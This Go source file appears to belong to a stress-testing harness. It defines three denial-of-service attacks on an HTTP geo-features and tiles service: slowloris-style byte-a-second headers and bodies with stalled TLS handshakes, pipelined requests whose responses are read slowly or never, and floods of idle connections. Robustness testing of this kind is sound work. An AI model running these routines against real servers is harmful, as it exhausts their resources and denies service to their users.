package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

var httpSlow = Attack{
	Name: "http-slow", shows: "bytes", web: true,
	What: "headers and bodies of HTTP requests at a byte a second, and handshakes of TLS that stop",
	run: func(ctx context.Context, e *Enemy) error {
		return e.each(ctx, e.size(300, 9), func(ctx context.Context, i int) error {
			if i%3 == 2 {
				c, err := e.dialTCP(ctx, i, e.target.HTTP)
				if err != nil {
					return err
				}
				_, _ = c.Write([]byte{22, 3, 1, 2, 0, 1}) // the beginning of a hello
				_, err = io.Copy(io.Discard, c)
				return errors.Join(errors.New("closed"), err)
			}
			c, err := e.dialHTTP(ctx, i, "http/1.1")
			if err != nil {
				return err
			}
			defer c.Close()
			head := webRequest("POST", webPath+"/items", "Content-Type: application/geo+json", "Content-Length: 100000")
			if i%3 == 1 {
				if _, err := io.WriteString(c, head); err != nil {
					return err
				}
				head = strings.Repeat(" ", 100_000)
			}
			for _, b := range []byte(head) {
				if _, err := c.Write([]byte{b}); err != nil {
					return err
				}
				e.count("bytes", 1)
				if pause(ctx, time.Second); ctx.Err() != nil {
					break
				}
			}
			return nil
		})
	},
}

var httpUnread = Attack{
	Name: "http-unread", shows: "asked", web: true,
	What:    "large pages of features, and tiles, that are asked for in a row and not taken, or at 64 bytes a second",
	prepare: litter,
	run: func(ctx context.Context, e *Enemy) error {
		return e.each(ctx, e.size(64, 6), func(ctx context.Context, i int) error {
			c, err := e.dialHTTP(ctx, i, "http/1.1")
			if err != nil {
				return err
			}
			defer c.Close()
			for n := range 16 {
				path := webItems
				if i/2%2 == 1 { // tiles of the south, where the litter is
					path = fmt.Sprintf("%s/tiles/2/%d/%d.mvt?filter=n%%3E%d", webPath, n%4, 2+n/4%2, i)
				}
				if _, err := io.WriteString(c, webRequest("GET", path)); err != nil {
					return err
				}
				e.count("asked", 1)
			}
			for b := make([]byte, 64); ctx.Err() == nil; pause(ctx, time.Second) {
				if i%2 == 0 {
					pause(ctx, unreadTime)
				}
				if _, err := io.ReadFull(c, b); err != nil {
					return err
				}
			}
			return nil
		})
	},
}

var httpIdle = Attack{
	Name: "http-idle", shows: "silent", web: true, flood: true,
	What: "connections to the HTTP port that say nothing",
	run: func(ctx context.Context, e *Enemy) error {
		return e.flood(ctx, func(ctx context.Context, i int) (net.Conn, error) {
			d := net.Dialer{LocalAddr: &net.TCPAddr{IP: e.host(i)}}
			c, err := d.DialContext(ctx, "tcp", e.target.HTTP)
			if err == nil {
				_ = c.(*net.TCPConn).SetLinger(0)
			}
			return c, err
		})
	},
}
